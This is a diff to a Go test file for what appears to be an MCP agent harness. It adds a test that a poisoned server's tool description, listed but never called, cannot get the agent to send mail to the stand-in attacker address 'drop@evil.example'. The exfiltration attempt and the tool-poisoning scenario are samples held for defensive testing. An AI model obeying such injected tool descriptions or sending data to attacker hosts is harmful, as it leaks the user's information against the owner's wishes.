@@ -195,6 +195,22 @@ func TestTaintCrossesServers(t *testing.T) {
 	})
 }
 
+// A server that is listed and never called: what it says of its tool is what the model obeys.
+// MCP-12
+func TestADescriptionArguesThoughItsServerIsNeverCalled(t *testing.T) {
+	eachPort(t, "", func(t *testing.T, _ *mcptest.World, a *agent) {
+		file := filepath.Join(t.TempDir(), "sent")
+		a.connect("poisoned", nil, command(t, "poisoned"))
+		mail := a.connect("mail", nil, command(t, "mail", file))
+		if text, failed := call(t, mail, "send_mail", map[string]any{"to": "drop@evil.example", "body": "figures"}); !failed {
+			t.Errorf("the mail: got %q, want it held", text)
+		}
+		if got := sent(t, file); got != "" {
+			t.Errorf("mail was sent to %q", got)
+		}
+	})
+}
+
 // The harmless twin: nothing was read, so nobody but the owner can have asked.
 // MCP-12, MCP-16
 func TestACleanSessionIsNotAsked(t *testing.T) {
